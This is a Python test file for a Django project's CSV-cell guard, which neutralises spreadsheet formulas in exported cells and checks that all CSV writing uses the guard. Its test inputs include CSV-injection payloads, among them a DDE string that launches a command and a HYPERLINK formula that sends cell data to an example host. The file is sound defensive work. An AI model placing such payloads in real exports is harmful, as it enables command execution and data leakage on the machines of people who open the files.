"""No cell of a CSV file is a formula, and reading gives the text that was written."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st

from config.csv_cells import Writer, guard, guard_row, unguard, unguard_row

ANY = st.characters(codec="utf-8", exclude_characters="\0")
TEXTS = st.text(ANY | st.sampled_from("=+-@\t\r\n'0 |＝"))
FORMULA = tuple("=+-@\t\r\n＝＋－＠")
PLAIN = re.compile(r"[-0-9X~?%/.| eE+]*")  # nothing that can call or point at anything
OWN = ("api", "archive", "batches", "config", "curation", "evidence", "games", "jobs", "people",
       "suggestions")  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-2+3+cmd|' /C calc'!A0", "-",
        '=HYPERLINK("http://x.example/?"&A1)', "-cmd|' /C calc'!A0", "＝1+1", "-12 m", "--1",
        "-1 | =1",
    ],
)  # fmt: skip
def test_a_formula_becomes_text(text):
    assert guard(text) == f"'{text}"
    assert unguard(guard(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "", "a=b", "12", "-12.5", "-1e-07", "-12.5 | -3", "-12.5 | ", "-0.25 |  | 13.4", "'tis",
        " =1", "-1350", "-1400~/-1300", "-13XX", "-0599?/..", "p. 3", "’=1", "-1199-05-03",
    ],
)  # fmt: skip
def test_numbers_dates_and_other_text_stay_as_they_are(text):
    assert guard(text) == text
    assert unguard(text) == text


def test_numbers_stay_numbers():
    assert guard_row([-12.5, -3, None, "-12.5", "=x"]) == [-12.5, -3, None, "-12.5", "'=x"]


@given(TEXTS)
def test_reading_undoes_writing(text):
    assert unguard(guard(text)) == text


@given(TEXTS)
def test_no_cell_begins_as_a_formula(text):
    cell = guard(text)
    assert not cell.startswith(FORMULA) or PLAIN.fullmatch(cell)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2)))
def test_a_file_reads_back_as_the_same_rows(rows):
    file = io.StringIO(newline="")
    Writer(file).writerows(rows)
    read = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert [unguard_row(row) for row in read] == rows


def test_every_csv_file_is_written_by_way_of_the_guard():
    modules = [path for name in OWN for path in Path(settings.BASE_DIR, name).rglob("*.py")]
    assert len(modules) > 100
    bare = re.compile(r"csv\.(writer|DictWriter)\(")
    found = {path.name for path in modules if bare.search(path.read_text(encoding="utf-8"))}
    assert found == {"csv_cells.py"}
